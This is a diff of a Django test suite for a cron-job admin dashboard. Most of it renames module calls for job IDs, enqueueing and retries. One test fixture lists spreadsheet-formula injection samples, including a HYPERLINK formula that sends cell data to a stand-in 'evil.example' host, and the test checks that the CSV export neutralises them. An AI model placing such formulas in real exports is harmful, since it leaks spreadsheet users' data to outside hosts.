@@ -15,7 +15,8 @@ from django.test import override_settings
 from django.test.utils import CaptureQueriesContext
 from django_celery_beat.models import PeriodicTask
 
-from cron_celery import claims, runs, schedule_sync
+from cron_celery import claims, dispatch, finishes, schedule_sync
+from cron_celery import jobs as job_rows
 from cron_celery.models import Alert, AlertStatus, CronExecution, CronJob, Status, Trigger
 from tests.admin_forms import submit
 from tests.jobsapp import tasks as jobs
@@ -46,7 +47,7 @@ def history(job_id: int, count: int, status: str = Status.SUCCEEDED, *, start: i
 
 def test_the_dashboard_shows_each_jobs_health_in_a_bounded_number_of_queries(admin_client):
     schedule_sync.sync()
-    job_ids = [runs.job_id(job.job) for job in (jobs.tick_2s, jobs.nightly_report, jobs.calc_commission)]
+    job_ids = [job_rows.job_id(job.job) for job in (jobs.tick_2s, jobs.nightly_report, jobs.calc_commission)]
     history(job_ids[0], 40)
     history(job_ids[1], 5, Status.FAILED)
     CronJob.objects.filter(id=job_ids[1]).update(last_status=Status.FAILED, consecutive_failures=5)
@@ -77,7 +78,7 @@ def test_pause_and_resume_go_through_the_periodic_task(admin_client):
 
 
 def test_run_now_sends_an_admin_run(admin_client):
-    job_id = runs.job_id(jobs.calc_commission.job)
+    job_id = job_rows.job_id(jobs.calc_commission.job)
     response = admin_client.post(DASHBOARD, {"action": "run_now", "_selected_action": [job_id]}, follow=True)
     assert "sent (execution" in response.content.decode()
     row = CronExecution.objects.get(job_id=job_id)
@@ -86,7 +87,7 @@ def test_run_now_sends_an_admin_run(admin_client):
 
 def test_the_backfill_form_sends_the_slots_of_a_range(admin_client):
     schedule_sync.sync()
-    job_id = runs.job_id(jobs.nightly_report.job)
+    job_id = job_rows.job_id(jobs.nightly_report.job)
     form = admin_client.post(DASHBOARD, {"action": "backfill_range", "_selected_action": [job_id]})
     assert form.status_code == 200 and "Send the slots" in form.content.decode()
     done = admin_client.post(DASHBOARD, {"action": "backfill_range", "_selected_action": [job_id], "apply": "1",
@@ -102,14 +103,14 @@ def test_the_backfill_form_sends_the_slots_of_a_range(admin_client):
 
 def test_the_history_detail_shows_every_attempt_and_the_alerts(admin_client):
     job = jobs.calc_commission.job
-    job_id = runs.job_id(job)
-    execution_id, _ = claims.enqueue(job=job, job_id=job_id, slot=SLOT, execution_date=SLOT.date(),
+    job_id = job_rows.job_id(job)
+    execution_id, _ = dispatch.enqueue(job=job, job_id=job_id, slot=SLOT, execution_date=SLOT.date(),
                                      trigger=Trigger.BEAT)
     claim = claims.begin(job=job, job_id=job_id, slot=SLOT, execution_date=SLOT.date(), trigger=Trigger.BEAT,
                          execution_id=execution_id, worker="host-a", pid=11)
     assert claim.fence is not None
     CronJob.objects.filter(id=job_id).update(max_retries=1)
-    assert claims.retry(job_id=job_id, execution_id=execution_id, fence=claim.fence, status=Status.FAILED,
+    assert finishes.retry(job_id=job_id, execution_id=execution_id, fence=claim.fence, status=Status.FAILED,
                         message="partner API <down>", error_code="HTTP_503", traceback="", countdown=0)
     Alert.objects.create(execution_id=execution_id, job_id=job_id, event="FAILED", channel="slack",
                          status=AlertStatus.FAILED, attempts=5, last_error="HTTP 500: ***")
@@ -122,9 +123,9 @@ def test_the_history_detail_shows_every_attempt_and_the_alerts(admin_client):
 
 def test_history_actions_rerun_mark_lost_and_export_csv(admin_client):
     job = jobs.calc_commission.job
-    job_id = runs.job_id(job)
+    job_id = job_rows.job_id(job)
     history(job_id, 3)
-    stuck, _ = claims.enqueue(job=job, job_id=job_id, slot=SLOT, execution_date=SLOT.date(), trigger=Trigger.BEAT)
+    stuck, _ = dispatch.enqueue(job=job, job_id=job_id, slot=SLOT, execution_date=SLOT.date(), trigger=Trigger.BEAT)
     finished = list(CronExecution.objects.filter(job_id=job_id, status=Status.SUCCEEDED).values_list("id", flat=True))
     marked = admin_client.post(HISTORY, {"action": "mark_lost", "_selected_action": [stuck, finished[0]]}, follow=True)
     assert "1 execution(s) marked LOST" in marked.content.decode()
@@ -147,7 +148,7 @@ FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3",
 
 def test_the_csv_export_neutralises_cells_that_a_spreadsheet_would_run_as_formulas(admin_client):
     job = jobs.calc_commission.job
-    job_id = runs.job_id(job)
+    job_id = job_rows.job_id(job)
     history(job_id, len(FORMULAS) + 1)
     rows = list(CronExecution.objects.filter(job_id=job_id).order_by("id"))
     for row, text in zip(rows, [*FORMULAS, "plain = text, 'quoted'"], strict=True):
@@ -180,7 +181,7 @@ def test_the_dashboard_shows_a_banner_while_this_processs_checks_find_an_error(a
 
 
 def test_marking_a_retried_running_execution_lost_ends_its_attempt_in_the_history(admin_client):
-    job_id = runs.job_id(jobs.calc_commission.job)
+    job_id = job_rows.job_id(jobs.calc_commission.job)
     history(job_id, 1)
     execution = CronExecution.objects.get(job_id=job_id)
     attempts = [{"attempt": 1, "started": "2026-11-29T01:00:00+00:00", "ended": "2026-11-29T01:00:05+00:00",
@@ -196,7 +197,7 @@ def test_marking_a_retried_running_execution_lost_ends_its_attempt_in_the_histor
 
 
 def test_alerts_can_be_sent_again(admin_client):
-    job_id = runs.job_id(jobs.calc_commission.job)
+    job_id = job_rows.job_id(jobs.calc_commission.job)
     history(job_id, 1, Status.FAILED)
     execution = CronExecution.objects.get(job_id=job_id)
     alert = Alert.objects.create(execution=execution, job_id=job_id, event="FAILED", channel="webhook",
@@ -210,7 +211,7 @@ def test_alerts_can_be_sent_again(admin_client):
 
 
 def test_a_staff_user_who_may_only_view_sees_the_jobs_but_cannot_act_on_them(client, django_user_model):
-    job_id = runs.job_id(jobs.calc_commission.job)
+    job_id = job_rows.job_id(jobs.calc_commission.job)
     viewer = django_user_model.objects.create_user("viewer", password="pw-not-used", is_staff=True)
     viewer.user_permissions.add(*Permission.objects.filter(
         content_type__app_label="cron_celery", codename__in=["view_cronjob", "view_cronexecution", "view_alert"]))
@@ -230,7 +231,7 @@ def test_a_staff_user_who_may_only_view_sees_the_jobs_but_cannot_act_on_them(cli
 
 
 def test_the_admin_is_read_only(admin_client):
-    job_id = runs.job_id(jobs.calc_commission.job)
+    job_id = job_rows.job_id(jobs.calc_commission.job)
     history(job_id, 1)
     execution = CronExecution.objects.get(job_id=job_id)
     assert admin_client.post(f"{HISTORY}{execution.id}/change/", {}).status_code == 403
